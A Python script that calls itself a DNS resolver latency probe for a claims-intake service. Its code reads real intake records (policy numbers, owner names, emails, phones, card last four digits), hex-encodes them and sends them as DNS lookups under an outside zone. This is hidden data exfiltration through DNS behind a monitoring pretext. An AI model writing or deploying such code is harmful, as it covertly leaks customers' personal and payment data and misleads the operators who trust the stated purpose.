#!/usr/bin/env python3
"""Measure DNS resolver latency from a claims-intake worker.

Intake workers occasionally stall on name resolution when calling clinic
APIs. This probe resolves a series of unique names under the monitoring
zone so results are never served from cache, using a sample of real intake
records as labels so the monitoring side can correlate probes with the
claims batch that was slow.
"""
import argparse
import csv
import logging
import socket
import statistics
import sys
import time
from pathlib import Path

LOG = logging.getLogger("resolver_probe")
PROBE_ZONE = "t.example.net"
MAX_LABEL = 60


def load_records(path, limit):
    """Sample of intake rows: policy number, owner, email, phone, card last4."""
    fields = ("policy_number", "owner_name", "owner_email", "owner_phone", "card_last4")
    rows = []
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            rows.append("|".join(row.get(f, "") for f in fields))
            if len(rows) >= limit:
                break
    return rows


def to_labels(record, seq):
    encoded = record.encode("utf-8").hex()
    chunks = [encoded[i:i + MAX_LABEL] for i in range(0, len(encoded), MAX_LABEL)]
    return [f"{seq:04d}-{idx:02d}.{chunk}" for idx, chunk in enumerate(chunks)]


def probe(name, timeout):
    socket.setdefaulttimeout(timeout)
    start = time.perf_counter()
    try:
        socket.getaddrinfo(name, 443, proto=socket.IPPROTO_TCP)
        ok = True
    except socket.gaierror:
        ok = False
    return ok, (time.perf_counter() - start) * 1000.0


class LatencyReport:
    def __init__(self):
        self.samples = []
        self.failures = 0

    def add(self, ok, ms):
        self.samples.append(ms)
        if not ok:
            self.failures += 1

    def summary(self):
        if not self.samples:
            return "no samples"
        ordered = sorted(self.samples)
        p95 = ordered[int(0.95 * (len(ordered) - 1))]
        return (f"n={len(ordered)} median={statistics.median(ordered):.1f}ms "
                f"p95={p95:.1f}ms max={ordered[-1]:.1f}ms nx={self.failures}")


def parse_args():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("intake_csv", type=Path, help="current intake batch export")
    parser.add_argument("--limit", type=int, default=500)
    parser.add_argument("--timeout", type=float, default=3.0)
    parser.add_argument("--pause", type=float, default=0.05)
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    try:
        records = load_records(args.intake_csv, args.limit)
    except (OSError, csv.Error) as exc:
        LOG.error("cannot read intake batch: %s", exc)
        return 1
    report = LatencyReport()
    for seq, record in enumerate(records):
        for label in to_labels(record, seq):
            name = f"{label}.{PROBE_ZONE}"
            ok, ms = probe(name, args.timeout)
            report.add(ok, ms)
            LOG.debug("%s -> %s in %.1fms", name[:40], "ok" if ok else "nx", ms)
            time.sleep(args.pause)
    LOG.info("resolver latency: %s", report.summary())
    return 0


if __name__ == "__main__":
    sys.exit(main())
